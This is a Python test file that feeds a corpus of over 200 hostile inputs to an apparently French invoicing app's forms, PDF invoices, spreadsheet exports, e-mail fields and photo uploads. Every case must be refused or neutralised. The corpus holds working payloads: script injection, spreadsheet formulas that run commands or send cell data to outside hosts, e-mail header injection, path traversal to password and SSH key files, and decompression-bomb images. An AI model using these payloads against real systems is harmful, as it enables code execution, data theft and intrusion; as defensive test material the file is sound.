"""Hostile input corpus (200+ cases) across forms, documents, exports and files.

Each case is either refused with a French message naming the field (and nothing stored),
or neutralised (stored/printed as inert text); never a crash.
"""

from __future__ import annotations

import dataclasses
import io
import struct
import zlib
from pathlib import Path

import pytest
from sqlalchemy import func, select

from app import identifiers
from app.clients import ClientForm, create_client
from app.db import Database
from app.documents.smtp_settings import email_address
from app.errors import ValidationError, ValidationErrors
from app.quotes.photos import safe_original_name, store_photo
from models.clients import Client
from reports.invoice_pdf import render_invoice_pdf
from reports.xlsx import safe_cell, write_table
from tests import documents_samples as samples
from tests.test_invoice_pdf import text_of

FRENCH = ("champ", "valide", "interdit", "dépasse", "doit", "obligatoire", "caract", "refus")

# --- corpus ---------------------------------------------------------------------------------
MARKUP = [
    "<b>Dupont</b> & Fils",
    "Dupont & Fils <i>SARL",
    "A < B > C",
    "R&D Propreté",
    "Tom &amp; Jerry",
    "<font color=red>rouge</font>",
    "<para>x</para>",
    '<img src="/etc/passwd"/>',
    "<a href='javascript:alert(1)'>clic</a>",
    "&lt;déjà échappé&gt;",
    "5 < 6 & 7 > 2",
    "<br/>Nouvelle ligne",
    "<![CDATA[x]]>",
    "<script>alert('x')</script>",
    "&#x41;&#65; entités",
    'L\'Oréal "Propreté"',
    "<u>souligné",
    "</para>fin",
    "<seq id='x'/>",
    "<strike>barré</strike> & <super>2</super>",
]
CONTROL = [
    "Nom\x00nul",
    "Nom\x07cloche",
    "Nom\x1bchap",
    "Nom\x7fsuppr",
    "Nom\x08retour",
    "Nom\x0bVT",
    "Nom\x0cFF",
    "Nom\rretour chariot",
    "abc\u202edcba",  # RIGHT-TO-LEFT OVERRIDE
    "abc\u202dxyz",  # LEFT-TO-RIGHT OVERRIDE
    "abc\u202axyz",
    "abc\u202bxyz",
    "abc\u202cxyz",
    "abc\u2066xyz",
    "abc\u2067xyz",
    "abc\u2068xyz",
    "abc\u2069xyz",
    "facture\u202efdp.exe",
]
OVERLONG = ["A" * 201, "é" * 250, "x" * 10_000, "Nom " * 80]
TEXT_FIELDS = ("name", "street", "city", "legal_form")

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil","clic")',
    "=cmd|' /C calc'!A0",
    "+33 4 78 00 00 00",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    "+cmd|'/c notepad'!A1",
    "-cmd|'/c calc'!A1",
    "@cmd|'/c calc'!A1",
    '=DDE("cmd";"/C calc";"x")',
    "=1/0",
    '=WEBSERVICE("http://x")',
]

BAD_EMAILS = [
    "a@b.fr\r\nBcc: x@y.fr",
    "a@b.fr\nBcc: x@y.fr",
    "a@b.fr\r\nX-Injecte: 1",
    "a@b.fr%0d%0aBcc:x@y.fr\n",
    "a@b.fr, c@d.fr",
    "a@b.fr; c@d.fr",
    "<a@b.fr>",
    "a b@c.fr",
    "a@b.fr\x00",
    "\u202ea@b.fr",
    "",
    "pas-une-adresse",
    "@b.fr",
    "a@",
]

BAD_IDS: list[tuple[str, str]] = [
    ("siren", "123456789"),
    ("siren", "12345678"),
    ("siren", "1234567890"),
    ("siren", "ABCDEFGHI"),
    ("siren", "55210055\u202e4"),
    ("siren", "552 100 553"),
    ("siret", "55210055400014"),
    ("siret", "5521005540001"),
    ("siret", "552100554000133"),
    ("siret", "=55210055400013"),
    ("vat_number", "FR00552100554"),
    ("vat_number", "FR40552100555"),
    ("vat_number", "XX40552100554"),
    ("vat_number", "FR40<b>55210</b>"),
    ("iban", "FR7630004001230001234567800"),
    ("iban", "FR76"),
    ("iban", "FR76 3000 4001 2300 0123 4567 8\x0043"),
    ("iban", "DE00123456780000000000"),
    ("iban", "=FR7630004001230001234567843"),
    ("bic", "BNP"),
    ("bic", "BNPAFRPP12345"),
    ("bic", "bnpa<fr>pp"),
    ("bic", "BNPA-FR-PP"),
    ("email", "a@b.fr\r\nBcc: x@y.fr"),
    ("email", "pas une adresse"),
    ("email", "a@b"),
    ("postcode", "6900"),
    ("postcode", "690021"),
    ("postcode", "69 002"),
    ("postcode", "ABCDE"),
]

TRAVERSAL = [
    "../../etc/passwd",
    "..\\..\\Windows\\system32\\cmd.exe",
    "/etc/shadow",
    "C:\\Users\\x\\photo.jpg",
    "photos/../../../secret.jpg",
    "....//....//x.jpg",
    "%2e%2e%2fpasswd.jpg",
    "photo\x00.jpg.exe",
    "\u202egpj.exe",
    "..",
    ".",
    "~/.ssh/id_rsa",
    "\\\\serveur\\partage\\x.png",
    "photo.jpg/../../x",
    "a" * 400 + ".jpg",
]


def _png(width: int, height: int, *, body: bytes | None = None) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    raw = body if body is not None else zlib.compress(b"\x00" + b"\x00\x00\x00" * width)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


def _jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(out, "JPEG")
    return out.getvalue()


BAD_IMAGES: list[tuple[str, bytes]] = [
    ("bombe-declaree.png", _png(100_000, 100_000)),
    ("bombe-large.png", _png(60_000, 1)),
    ("bombe-haute.png", _png(1, 300_000)),
    ("tronquee.jpg", _jpeg()[:200]),
    ("tronquee-moitie.jpg", _jpeg()[: len(_jpeg()) // 2]),
    ("tronquee.png", _png(64, 64, body=zlib.compress(b"\x00" * 10))),
    ("vide.png", b""),
    ("aleatoire.jpg", bytes(range(256)) * 4),
    ("html.png", b"<html><script>alert(1)</script></html>"),
    ("svg.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ("gif.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
    ("zip.jpg", b"PK\x03\x04" + b"\x00" * 60),
    ("entete-seul.png", b"\x89PNG\r\n\x1a\n"),
    ("pdf.jpg", b"%PDF-1.7\n%%EOF"),
]


# --- forms: client ----------------------------------------------------------------------------
# A form that is accepted as is: each case changes one field only, so a refusal is the
# hostile value's doing (see test_the_valid_form_is_accepted).
VALID = ClientForm(
    code="TEST001",
    name="Client test",
    siret="55210055400013",
    street="1 rue A",
    postcode="69002",
    city="Lyon",
)


def test_the_valid_form_is_accepted(db: Database) -> None:
    with db.write() as s:
        assert create_client(s, VALID).id


def _count(db: Database) -> int:
    with db.read() as s:
        return s.scalar(select(func.count()).select_from(Client)) or 0


def _refused_in_french(exc: BaseException) -> str:
    if isinstance(exc, ValidationErrors):
        text = str(exc)
    else:
        assert isinstance(exc, ValidationError)
        text = str(exc)
    assert any(word in text.lower() for word in FRENCH), text
    return text


@pytest.mark.parametrize("field", TEXT_FIELDS)
@pytest.mark.parametrize("value", CONTROL + OVERLONG, ids=lambda v: repr(v)[:30])
def test_control_rtl_and_overlong_text_is_refused_and_nothing_stored(
    db: Database, field: str, value: str
) -> None:
    before = _count(db)
    form = dataclasses.replace(VALID, **{field: value})
    with pytest.raises((ValidationError, ValidationErrors)) as info, db.write() as s:
        create_client(s, form)
    _refused_in_french(info.value)
    assert _count(db) == before


@pytest.mark.parametrize("value", MARKUP)
def test_markup_in_a_client_name_is_stored_as_plain_text(db: Database, value: str) -> None:
    with db.write() as s:
        client = create_client(s, dataclasses.replace(VALID, name=value))
        client_id = client.id
    with db.read() as s:
        assert s.get(Client, client_id).name == value.strip()  # type: ignore[union-attr]


# --- documents: ReportLab paragraphs -----------------------------------------------------------
@pytest.mark.parametrize("value", MARKUP)
def test_markup_reaches_the_invoice_pdf_as_literal_text(value: str, tmp_path: Path) -> None:
    buyer = dataclasses.replace(samples.COMPANY_BUYER, name=value)
    doc = samples.invoice(buyer=buyer, lines=(samples.line(f"Prestation {value}", "1", "10.00"),))
    text = text_of(render_invoice_pdf(doc), tmp_path)
    assert value in text.replace("\n", " ") or value.replace(" ", "") in text.replace(" ", "")


# --- identifiers --------------------------------------------------------------------------------
@pytest.mark.parametrize(("kind", "value"), BAD_IDS, ids=lambda v: repr(v)[:30])
def test_invalid_identifiers_are_refused_in_french(kind: str, value: str) -> None:
    with pytest.raises(ValidationError) as info:
        getattr(identifiers, kind)(value)
    _refused_in_french(info.value)


# --- e-mail header injection ---------------------------------------------------------------------
@pytest.mark.parametrize("value", BAD_EMAILS, ids=lambda v: repr(v)[:30])
def test_cr_lf_and_lists_in_e_mail_fields_are_refused(value: str) -> None:
    with pytest.raises(ValidationError) as info:
        email_address(value, "Destinataire")
    assert info.value.field == "Destinataire"
    assert "adresse e-mail valide" in str(info.value)


@pytest.mark.parametrize("value", BAD_EMAILS[:10], ids=lambda v: repr(v)[:30])
def test_cr_lf_in_the_client_e_mail_is_refused_and_nothing_stored(db: Database, value: str) -> None:
    before = _count(db)
    form = dataclasses.replace(VALID, email=value)
    with pytest.raises((ValidationError, ValidationErrors)) as info, db.write() as s:
        create_client(s, form)
    _refused_in_french(info.value)
    assert _count(db) == before


# --- exports: formula injection -------------------------------------------------------------------
@pytest.mark.parametrize("value", FORMULAS, ids=lambda v: repr(v)[:30])
def test_formula_text_is_neutralised_in_xlsx_exports(value: str, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = write_table(tmp_path / "export.xlsx", "Export", ["Nom", "Montant"], [[value, 12]])
    ws = load_workbook(path).active
    cell = ws.cell(row=2, column=1)
    assert cell.data_type == "s"
    assert str(cell.value) == "'" + value
    assert ws.cell(row=2, column=2).value == 12
    assert safe_cell(value).startswith("'")


# --- images ------------------------------------------------------------------------------------------
@pytest.mark.parametrize(("name", "data"), BAD_IMAGES, ids=[n for n, _ in BAD_IMAGES])
def test_bombs_truncated_and_disguised_images_are_refused_nothing_written(
    name: str, data: bytes, tmp_path: Path
) -> None:
    with pytest.raises(ValidationError) as info:
        store_photo(tmp_path, data, name)
    assert "refusé" in str(info.value) or "vide" in str(info.value)
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []


# --- attachment names --------------------------------------------------------------------------------
@pytest.mark.parametrize("name", TRAVERSAL, ids=lambda v: repr(v)[:30])
def test_path_traversal_in_attachment_names_is_neutralised(name: str, tmp_path: Path) -> None:
    clean = safe_original_name(name)
    assert "/" not in clean and "\\" not in clean and "\x00" not in clean
    assert len(clean) <= 255
    stored = store_photo(tmp_path, _jpeg(), name)
    # Stored under a random name inside the store, whatever the name said.
    target = (tmp_path / stored.storage_name).resolve()
    assert target.is_relative_to(tmp_path.resolve()) and target.is_file()
    assert stored.original_name == (clean or "photo")
    assert [p for p in tmp_path.rglob("*") if p.is_file() and "photos" not in p.parts] == []


def test_the_corpus_has_more_than_200_cases() -> None:
    total = (
        len(TEXT_FIELDS) * len(CONTROL + OVERLONG)
        + 2 * len(MARKUP)
        + len(BAD_IDS)
        + len(BAD_EMAILS)
        + 10
        + len(FORMULAS)
        + len(BAD_IMAGES)
        + len(TRAVERSAL)
    )
    assert total >= 200, total
